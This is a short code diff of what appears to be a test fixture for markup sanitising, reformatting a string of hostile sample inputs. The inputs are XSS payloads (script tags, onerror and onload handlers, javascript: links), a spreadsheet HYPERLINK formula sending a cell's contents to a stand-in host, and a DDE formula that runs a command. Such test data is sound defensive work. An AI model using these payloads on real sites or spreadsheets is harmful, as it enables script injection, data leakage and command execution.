@@ -553,7 +553,8 @@ MARKUP = (
         about="script, event handlers, javascript: addresses, formulas",
         body=lambda: notice(
             title='=HYPERLINK("http://evil.example/"&amp;A1,"x")&lt;script&gt;alert(1)&lt;/script&gt;',
-            more='<p><img src=x onerror=alert(1)>正文<a href="javascript:alert(1)">点</a></p><svg onload=alert(1)></svg>'
+            more='<p><img src=x onerror=alert(1)>正文<a href="javascript:alert(1)">点</a></p>'
+            "<svg onload=alert(1)></svg>"
             "<p>=cmd|' /C calc'!A0</p>",
         ).encode(),
     ),
